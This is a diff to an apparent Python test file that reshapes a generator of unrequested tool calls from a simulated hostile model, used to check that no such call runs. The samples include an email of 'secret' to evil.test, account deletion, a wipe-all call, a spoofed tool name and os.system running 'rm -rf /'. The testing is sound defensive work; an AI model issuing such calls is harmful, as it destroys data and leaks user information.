@@ -49,16 +49,15 @@ def desk_tools() -> tuple[FakeTool, ...]:
 def invented(dice: random.Random) -> tuple[str, dict[str, object]]:
     """A call that nobody asked for, with arguments out of the air."""
     order = "".join(dice.choices("0123456789", k=9))
-    return dice.choice(
-        [
-            ("refund_order", {"order_id": order, "amount": dice.randint(1, 9999)}),
-            ("send_email", {"to": f"u{order}@evil.test", "subject": "hi", "body": "secret"}),
-            ("delete_account", {"account_id": f"A{order}"}),
-            (f"functions.wipe_{order[:3]}", {"all": True}),
-            ("refund_order ", {"order_id": order, "amount": 1}),
-            ("os.system", {"command": "rm -rf /"}),
-        ]
-    )
+    proposals: list[tuple[str, dict[str, object]]] = [
+        ("refund_order", {"order_id": order, "amount": dice.randint(1, 9999)}),
+        ("send_email", {"to": f"u{order}@evil.test", "subject": "hi", "body": "secret"}),
+        ("delete_account", {"account_id": f"A{order}"}),
+        (f"functions.wipe_{order[:3]}", {"all": True}),
+        ("refund_order ", {"order_id": order, "amount": 1}),
+        ("os.system", {"command": "rm -rf /"}),
+    ]
+    return dice.choice(proposals)
 
 
 async def test_no_attempt_of_a_hostile_model_runs_and_no_reply_lies() -> None:
